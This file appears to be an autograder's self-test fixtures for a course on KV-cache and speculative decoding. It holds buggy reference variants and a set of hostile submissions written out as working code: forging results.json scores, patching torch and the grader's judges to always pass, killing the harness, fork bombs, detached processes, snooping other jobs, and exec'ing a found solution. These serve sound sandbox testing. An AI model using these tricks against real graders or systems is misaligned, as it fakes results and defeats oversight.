"""Submissions for the autograder's self-test, generated from solution/model.py.

BUGGY: each one realistic mistake, made by a text substitution in the reference (every
substitution must apply exactly once, so a change in the solution that breaks one is caught),
with the one piece whose tests must then fail: every other piece is graded on its own (the
grader's cache allocation and cache-less stand-ins for decode replace a broken earlier piece),
so a mistake costs the points of its piece only.
HOSTILE: files that attack or break the grader; each must still get a valid results.json.
GOOD: other correct implementations (e.g. speculative decoding without a cache) that must pass.
"""

from pathlib import Path

from infkit import paths


def solution_text() -> str:
    return paths.SOLUTION_MODEL.read_text()


def starter_text() -> str:
    return paths.STARTER_MODEL.read_text()


def substitute(text: str, *pairs: tuple[str, str]) -> str:
    for old, new in pairs:
        count = text.count(old)
        if count != 1:
            raise AssertionError(f"substitution must apply exactly once, applied {count}x: {old!r}")
        text = text.replace(old, new)
    return text


def replace_region(text: str, piece: str, body: str, occurrence: int = 0) -> str:
    """Replace the code of the `occurrence`-th marked region of `piece` with `body`."""
    lines = text.splitlines(keepends=True)
    begins = [i for i, line in enumerate(lines) if line.strip() == f"# BEGIN SOLUTION {piece}"]
    start = begins[occurrence]
    end = next(i for i in range(start, len(lines)) if lines[i].strip() == "# END SOLUTION")
    return "".join(lines[: start + 1] + [body] + lines[end:])


# (name, pieces whose public test must fail, substitutions)
BUGGY = {
    "decode_position_off_by_one": (
        ("gpt_decode",),
        [
            (
                "pos = torch.arange(start, start + t, dtype=torch.long, device=idx.device)",
                "pos = torch.arange(start + 1, start + t + 1, dtype=torch.long, device=idx.device)",
            )
        ],
    ),
    "cache_not_advanced": (
        ("attn_decode",),
        [("        self.seq_pos = end\n        keys", "        self.seq_pos = start\n        keys")],
    ),
    "cache_advanced_twice": (
        ("attn_decode",),
        [("        self.seq_pos = end\n        keys", "        self.seq_pos = end + T\n        keys")],
    ),
    "wrong_cache_slice": (
        ("attn_decode",),
        [
            ("keys = self.kv_cache[0, :B, :, :end]", "keys = self.kv_cache[0, :B, :, 1:end]"),
            ("values = self.kv_cache[1, :B, :, :end]", "values = self.kv_cache[1, :B, :, 1:end]"),
        ],
    ),
    "prefill_wrong_slot": (
        ("prefill",),
        [
            ("self.kv_cache[0, :B, :, :T] = k", "self.kv_cache[0, :B, :, 1 : T + 1] = k"),
            ("self.kv_cache[1, :B, :, :T] = v", "self.kv_cache[1, :B, :, 1 : T + 1] = v"),
        ],
    ),
    "multi_token_mask_wrong": (
        ("attn_decode",),
        [("values.to(q.dtype), q_start=start)", "values.to(q.dtype), q_start=0)")],
    ),
    "batch_rows_mixed": (
        ("attn_decode",),
        [("self.kv_cache[0, :B, :, start:end] = k\n", "self.kv_cache[0, :B, :, start:end] = k.roll(1, 0)\n")],
    ),
    "state_leaks_between_calls": (
        ("generate_kv",),
        [
            (
                "            logits = self.prefill(idx)  # (B, 1, V)\n",
                "            if self.transformer.h[0].attn.kv_cache is None:\n"
                "                self.setup_kv_cache(B)\n"
                "            logits = self.decode(idx)[:, -1:]\n",
            )
        ],
    ),
    "generate_kv_reruns_sequence": (
        ("generate_kv",),
        [
            (
                "logits = self.decode(out[:, T + i : T + i + 1])",
                "logits = self.prefill(out[:, : T + i + 1])",
            )
        ],
    ),
    "spec_keeps_draft_at_disagreement": (
        ("speculative",),
        [
            (
                "new = torch.cat((drafted[0, :a], target_tokens[a : a + 1]))",
                "new = torch.cat((drafted[0, : a + 1], target_tokens[a : a + 1]))[: a + 1]",
            )
        ],
    ),
    "spec_skips_target_token": (
        ("speculative",),
        [("seq[0, n : n + a + 1] = new", "seq[0, n : n + a] = new[:a]")],
    ),
    "spec_overshoots": (
        ("speculative",),
        [
            ("k = min(num_speculative, n_total - n - 1)", "k = num_speculative"),
            (
                "seq = torch.empty(1, n_total, dtype",
                "seq = torch.empty(1, n_total + num_speculative + 1, dtype",
            ),
            ("        self.spec_stats = stats\n        return seq\n", "        return seq[:, :n]\n"),
        ],
    ),
    # correct in DEBUG; outside it PyTorch's is_causal mask (top-left aligned) lets a new token
    # see only the first keys of the cache
    "decode_fast_path_causal_mask": (
        ("attn_decode",),
        [
            (
                "y = attend(q, keys.to(q.dtype), values.to(q.dtype), q_start=start)",
                "y = (attend(q, keys, values, q_start=start) if DEBUG else "
                "F.scaled_dot_product_attention(q, keys, values, is_causal=True))",
            )
        ],
    ),
    "spec_verifies_one_by_one": (
        ("speculative",),
        [
            (
                "logits = self.decode(verify)[0, -(k + 1) :]",
                "logits = torch.cat([self.decode(verify[:, j : j + 1]) for j in range(verify.size(1))], dim=1)"
                "[0, -(k + 1) :]",
            )
        ],
    ),
}


def buggy(name: str) -> str:
    return substitute(solution_text(), *BUGGY[name][1])


# A correct greedy speculative decoder without any KV cache, as the course allows: every round
# re-runs whole sequences through both models. It must pass correctness and the speed test.
CACHELESS_SPECULATIVE = """\
        seq = idx
        n_total = idx.size(1) + max_new_tokens
        while seq.size(1) < n_total:
            k = min(num_speculative, n_total - seq.size(1) - 1)
            draft = seq
            for _ in range(k):
                logits, _ = draft_model(draft)
                draft = torch.cat((draft, logits[:, -1].argmax(-1, keepdim=True)), dim=1)
            logits, _ = self(draft, all_logits=True)
            target = logits[0, seq.size(1) - 1 :].argmax(-1)  # (k + 1,) the target's picks
            proposed = draft[0, seq.size(1) :]
            a = 0
            while a < k and proposed[a] == target[a]:
                a += 1
            seq = torch.cat((seq, proposed[None, :a], target[None, a : a + 1]), dim=1)
        return seq
"""


def cacheless_speculative() -> str:
    return replace_region(solution_text(), "speculative", CACHELESS_SPECULATIVE)


def speculative_without_bonus() -> str:
    """The handout's steps to the letter: when all k drafts agree, keep just those k."""
    return substitute(
        solution_text(),
        ("k = min(num_speculative, n_total - n - 1)", "k = min(num_speculative, n_total - n)"),
        (
            "new = torch.cat((drafted[0, :a], target_tokens[a : a + 1]))",
            "new = drafted[0, :a] if a == k else torch.cat((drafted[0, :a], target_tokens[a : a + 1]))",
        ),
        (
            "seq[0, n : n + a + 1] = new\n                n += a + 1",
            "seq[0, n : n + len(new)] = new\n                n += len(new)",
        ),
    )


# Hostile or broken submissions. Each is the starter (or the solution) plus an attack; `{root}`
# is replaced by the grading root so an attack can aim at the real results file.
HOSTILE = {
    "syntax_error": lambda: starter_text() + "\ndef broken(:\n",
    "raises_at_import": lambda: starter_text() + "\nraise RuntimeError('boom at import')\n",
    "sys_exit_at_import": lambda: starter_text() + "\nimport sys\nsys.exit(0)\n",
    "os_exit_in_method": lambda: substitute(
        solution_text(),
        (
            "        w = self.c_attn.weight\n        head_dim",
            "        import os\n        os._exit(0)\n        head_dim",
        ),
    ),
    "hangs": lambda: substitute(
        solution_text(),
        (
            "        w = self.c_attn.weight\n        head_dim",
            "        while True:\n            pass\n        head_dim",
        ),
    ),
    "prints_megabytes": lambda: starter_text() + "\nfor _ in range(2000):\n    print('x' * 100_000)\n",
    "allocates_until_killed": lambda: starter_text()
    + "\nhog = []\nwhile True:\n    hog.append(bytearray(50_000_000))\n    hog[-1][::4096] = b'x' * len(hog[-1][::4096])\n",
    "writes_results_json": lambda: solution_text() + _WRITE_RESULTS,
    "reads_grader_files": lambda: starter_text() + _READ_GRADER,
    "patches_torch": lambda: starter_text() + _PATCH_TORCH,
    "kills_grader": lambda: starter_text() + _KILL_GRADER,
    "links_log_to_grader": lambda: starter_text() + _LINK_LOG,
    # for tests/test_sandbox.py, which fills in {token} (a process name) and {port}
    "detached_helper": lambda: starter_text() + _DETACHED_HELPER,
    "connects_to_network": lambda: starter_text() + _CONNECT,
    "fork_bomb": lambda: starter_text() + _FORK_BOMB,
    "reads_other_job": lambda: starter_text() + _READ_OTHER_JOB,
    # issue 28's uploads (HOSTILE_POINTS: what an honest grader gives each)
    "forges_probes": lambda: starter_text() + _FORGE_PROBES,
    "forges_probes_via_sys_modules": lambda: starter_text() + _FORGE_VIA_SYS_MODULES,
    "keyring_channel": lambda: solution_text() + _KEYRING,
    "walks_up_to_solution": lambda: starter_text() + _WALK_UP,
    "deep_tree": lambda: starter_text() + _DEEP_TREE,
    "sets_two_threads": lambda: solution_text() + "\ntorch.set_num_threads(2)  # 'to use both cores'\n",
    "hostile_text_at_import": lambda: starter_text() + _HOSTILE_TEXT,
}

# Points of a full grading (rubric.TESTS) that each of issue 28's uploads deserves: the
# forgeries, the channel and the walk-up are refused by the static screen (screen.py) or, past
# it, find nothing (the walk-up then grades as the starter it is); the deep tree is the starter;
# the solution that asks for two threads is still the solution.
HOSTILE_POINTS = {
    "forges_probes": 0,
    "forges_probes_via_sys_modules": 0,
    "keyring_channel": 0,
    "walks_up_to_solution": 0,
    "deep_tree": 0,
    "sets_two_threads": 50,
    "hostile_text_at_import": 0,
}

# Replace the grader's probes, in the worker's own interpreter, by ones that report success
# (the full forgery records what the judge expects; refusing the import is what matters).
_FORGE_PROBES = """
from infkit import checks as _checks

for _piece in list(_checks.PROBES):
    _checks.PROBES[_piece] = lambda *a, **k: ({}, None)
"""

_FORGE_VIA_SYS_MODULES = """
import sys as _sys

_checks = _sys.modules.get("infkit.checks")
if _checks is not None:
    _checks.PROBES.clear()
"""

# A store that outlives the job: the kernel keyring of the worker's account. The first worker
# leaves "answers" there; a later one finds them (then its import fails, saying so).
_KEYRING = """
import ctypes as _ctypes
import platform as _platform

_libc = _ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _REQUEST_KEY = {"x86_64": (248, 249), "aarch64": (217, 218)}[_platform.machine()]
_USER_KEYRING = -4  # KEY_SPEC_USER_KEYRING: the account's, not the process's
_found = _libc.syscall(_REQUEST_KEY, b"user", b"{token}", None, 0)
if _found > 0:
    raise RuntimeError("carried over from an earlier job: key " + str(_found))
_stored = _libc.syscall(_ADD_KEY, b"user", b"{token}", b"answers", 7, _USER_KEYRING)
"""

# Walk up from everywhere the worker's Python and code live, and one level down from every
# folder on the way, for the kit's solution; exec it in this module if found.
_WALK_UP = """
import os as _os
import sys as _sys


def _candidates():
    starts = [_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__)), _sys.prefix, _sys.base_prefix]
    for _start in starts + [_p for _p in _sys.path if _p]:
        _d = _os.path.abspath(_start)
        while True:
            yield _os.path.join(_d, "solution", "model.py")
            try:
                for _name in _os.listdir(_d):
                    yield _os.path.join(_d, _name, "solution", "model.py")
            except OSError:
                pass
            if _os.path.dirname(_d) == _d:
                break
            _d = _os.path.dirname(_d)


for _path in _candidates():
    if _os.path.isfile(_path):
        try:
            _source = open(_path).read()
        except OSError:
            continue
        exec(compile(_source, _path, "exec"))
        break
"""

# A 1,500-level folder tree (deeper than shutil.rmtree's recursion), with names that are not
# UTF-8, a folder without permissions and links out to the grader's tree, in the job's folder
# and in every shared writable folder; then the starter grades as the starter.
_DEEP_TREE = """
import os as _os


def _build(_top):
    try:
        _os.makedirs(_top, exist_ok=True)
        _fd = _os.open(_top, _os.O_RDONLY)
    except OSError:
        return
    for _i in range(1500):
        try:
            _os.mkdir("d", dir_fd=_fd)
            _next = _os.open("d", _os.O_RDONLY, dir_fd=_fd)
        except OSError:
            break
        if _i % 500 == 0:
            for _name, _target in ((b"odd\\nname\\xff", "/"), (b"to-the-grader", "{source}")):
                try:
                    _os.symlink(_target, _name, dir_fd=_fd)
                except OSError:
                    pass
            try:
                _os.mkdir(b"locked", dir_fd=_fd)
                _os.chmod(b"locked", 0, dir_fd=_fd)
            except OSError:
                pass
        _os.close(_fd)
        _fd = _next
    _os.close(_fd)


for _top in ("deep", "/tmp/deep-{token}", "/var/tmp/deep-{token}", "/dev/shm/deep-{token}"):
    _build(_top)
"""

# An import error whose message holds lone surrogates, terminal escapes and a megabyte of text.
_HOSTILE_TEXT = """
raise RuntimeError("\\udcff\\ud800 \\x1b[2J\\x1b]0;owned\\x07\\x1b[31mred " + "x" * 1_000_000 + "\\r\\x00end")
"""

# A helper that outlives its worker: it keeps "precomputed outputs" fresh in the shared folders
# for the next worker, which reports what it finds (the starter's stubs then say "not
# implemented yet"). The helper is named {token} so the test can look for it afterwards.
_DETACHED_HELPER = """
import os as _os, time as _time
_places = ["/tmp/{token}", "/var/tmp/{token}", "/dev/shm/{token}"]
_found = [_p for _p in _places if _os.path.exists(_p)]
if _found:
    raise RuntimeError("carried over from an earlier worker: " + ", ".join(_found))


def _leave_outputs():
    for _p in _places:
        try:
            with open(_p, "w") as _f:
                _f.write("precomputed outputs")
        except OSError:
            pass


_leave_outputs()
_middle = _os.fork()
if _middle == 0:  # detach: a new session, then a grandchild whose parent is gone at once
    _os.setsid()
    if _os.fork() == 0:
        with open("/proc/self/comm", "w") as _f:
            _f.write("{token}")
        _end = _time.time() + 120
        while _time.time() < _end:
            sum(range(200_000))  # work outside the worker's own CPU time
            _leave_outputs()
    _os._exit(0)
_os.waitpid(_middle, 0)
"""

_CONNECT = """
import socket as _socket
_tries = []
for _family, _kind, _addr in (
    (_socket.AF_INET, _socket.SOCK_STREAM, ("127.0.0.1", {port})),
    (_socket.AF_INET6, _socket.SOCK_STREAM, ("::1", {port})),
    (_socket.AF_INET, _socket.SOCK_DGRAM, ("127.0.0.1", {port})),
):
    try:
        _s = _socket.socket(_family, _kind)
        _s.settimeout(5)
        _s.connect(_addr)
        _s.sendall(b"from the worker")
        _tries.append("CONNECTED")
    except OSError as _e:
        _tries.append(f"{type(_e).__name__} (errno {_e.errno})")
raise RuntimeError("network: " + ", ".join(_tries))
"""

# Bounded (2000 idle children), so a machine without the process limit survives the test.
_FORK_BOMB = """
import os as _os, time as _time
_started = 0
for _ in range(2000):
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        _os.setsid()
        with open("/proc/self/comm", "w") as _f:
            _f.write("{token}")
        _time.sleep(120)
        _os._exit(0)
    _started += 1
raise RuntimeError(f"fork bomb: {_started} processes started")
"""

# Read other jobs' folders: list the grader's folder, and leave a helper that watches /proc for
# the next worker and copies its job.json into SNOOPED in that worker's own folder.
_READ_OTHER_JOB = """
import os as _os, time as _time
_me = _os.getcwd()
_seen = []
try:
    _seen.append("listed the grader's folder: " + ", ".join(_os.listdir(_os.path.dirname(_me))))
except OSError:
    pass
_middle = _os.fork()
if _middle == 0:
    _os.setsid()
    if _os.fork() == 0:
        with open("/proc/self/comm", "w") as _f:
            _f.write("{token}")
        _end = _time.time() + 120
        while _time.time() < _end:
            for _pid in _os.listdir("/proc"):
                try:
                    _cwd = _os.readlink(f"/proc/{_pid}/cwd")
                    if _cwd != _me and _os.path.exists(_cwd + "/job.json"):
                        with open(_cwd + "/job.json") as _f:
                            _data = _f.read()
                        with open(_cwd + "/SNOOPED", "w") as _f:
                            _f.write(_data[:80])
                except OSError:
                    pass
            _time.sleep(0.05)
    _os._exit(0)
_os.waitpid(_middle, 0)
_time.sleep(3)  # time enough for a helper of an earlier job to find this one
if _os.path.exists("SNOOPED"):
    _seen.append("an earlier job's helper read this job's job.json: " + open("SNOOPED").read())
if _seen:
    raise RuntimeError("read another job: " + "; ".join(_seen))
"""

_WRITE_RESULTS = """
import json as _json, os as _os
_fake = {"score": 1000, "tests": [{"name": "pwned", "score": 1000, "max_score": 1}]}
for _p in ("{root}/results/results.json", "/autograder/results/results.json", "results.json", "out.pt"):
    try:
        _os.makedirs(_os.path.dirname(_p) or ".", exist_ok=True)
        with open(_p, "w") as _f:
            _json.dump(_fake, _f)
    except OSError:
        pass
"""

_READ_GRADER = """
import glob as _glob
try:
    open("{source}/autograder/rubric.py").read()
    _seen = "READ"
except OSError:
    _seen = "DENIED"
try:
    import autograder.harness  # noqa: F401  (the grader's code is not on the worker's path)
    _seen += ", IMPORTED"
except ImportError:
    pass
raise RuntimeError("grader files: " + _seen)
"""

# Swap its own log for a link to a grader file, hoping the grader shows "the last lines printed".
_LINK_LOG = """
import os as _os
_os.remove("log.txt")
_os.symlink("{source}/autograder/rubric.py", "log.txt")
_os.symlink("{source}/autograder/rubric.py", "out.pt.tmp")
_os.replace("out.pt.tmp", "out.pt")
_os._exit(3)
"""

# Kill the process that started this one (the harness) where the operating system allows it.
_KILL_GRADER = """
import os as _os, signal as _signal
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
"""

# Make every comparison succeed and every check pass, inside the student's own process.
_PATCH_TORCH = """
import torch as _torch
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
try:
    import infkit.checks as _c
    for _name in list(_c.JUDGES):
        _c.JUDGES[_name] = lambda *a, **k: "passed"
    _c.judge = lambda *a, **k: "passed"
except ImportError:
    pass
"""


def hostile(name: str, root: Path, source: Path, token: str = "ag-hostile") -> str:
    text = HOSTILE[name]().replace("{root}", str(root)).replace("{source}", str(source))
    return text.replace("{token}", token)
